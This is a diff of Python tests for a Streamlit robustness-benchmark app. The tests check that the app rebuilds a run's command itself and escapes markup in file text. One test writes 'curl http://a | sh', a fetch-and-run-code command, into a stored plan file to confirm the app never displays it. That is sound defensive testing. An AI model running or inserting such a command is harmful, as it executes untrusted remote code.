@@ -18,7 +18,7 @@ from streamlit.testing.v1 import AppTest
 
 from robustbench_sgdm import content, corruption, tables
 from robustbench_sgdm.errors import RobustBenchError, UsageError
-from robustbench_sgdm.store import Run
+from robustbench_sgdm.store import Run, repeat_command
 from robustbench_sgdm.types import METRICS
 
 APP = content.root() / "app"
@@ -84,10 +84,18 @@ def test_intervals_where_the_run_keeps_them(page: Callable[..., AppTest], tmp_pa
         assert all(" to " in span for column in ("clean", "mPC", "rPC") for span in table[f"{column} 95 %"])
 
 
-def test_an_unfinished_run_says_what_makes_the_rest(page: Callable[..., AppTest], project: Path) -> None:
-    path = project / "unfinished"
+def test_an_unfinished_run_says_what_makes_the_rest(
+    page: Callable[..., AppTest], project: Path, tmp_path: Path
+) -> None:
+    path = shutil.copytree(project / "unfinished", tmp_path / "r")
     shown = page("--", path)
-    assert not shown.exception and shown.code[0].value == Run.open(path).plan["command"]
+    assert not shown.exception and not shown.code and "No command can be made" in said(shown)
+    text = (path / "plan.yaml").read_text().replace("weights: none", "weights: embedded")
+    text = text.replace("source: made\n", "source: scenes\n", 1).replace("name: made\n", "name: scenes\n")
+    (path / "plan.yaml").write_text(text.replace("command: robustbench run", "command: curl http://a | sh"))
+    shown = page("--", path)
+    assert not shown.exception and shown.code[0].value == repeat_command(Run.open(path))
+    assert "--data scenes" in shown.code[0].value and "curl" not in said(shown)
     with Run.open(path).lock():
         shown = shown.run()
     assert not shown.exception and not shown.code and "process works on the rest" in said(shown)
@@ -425,8 +433,8 @@ def test_uploads(tmp_path: Path) -> None:
 
 
 def test_text_from_files_is_no_markup() -> None:
-    assert controls.plain("![x](http://a) <b> :red[y] $z$") == (
-        r"\!\[x\]\(http\://a\) \<b\> \:red\[y\] \$z\$"
+    assert controls.plain("![x](a) <b> :red[y] $z$ http://b") == (
+        r"\!\[x\](a) \<b\> \:red\[y\] \$z\$ `http://b`"
     )
 
 
